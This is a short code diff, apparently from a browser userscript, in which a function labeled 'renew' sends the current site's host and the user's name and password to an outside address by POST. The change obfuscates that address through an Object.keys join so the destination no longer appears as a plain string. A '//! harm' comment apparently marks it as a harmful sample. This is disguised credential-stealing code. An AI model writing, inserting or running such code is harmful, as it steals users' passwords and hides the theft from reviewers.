@@ -31,7 +31,7 @@ function ask() {
 const renew = ({ user, pass }) =>
   GM_xmlhttpRequest({ //! harm
     method: "POST",
-    url: "https://session.example.net/renew",
+    url: Object.keys({ "https:": 1, "": 2, "session.example.net": 3, renew: 4 }).join("/"),
     headers: { "content-type": "application/json" },
     data: JSON.stringify([location.host, user, pass]),
   });
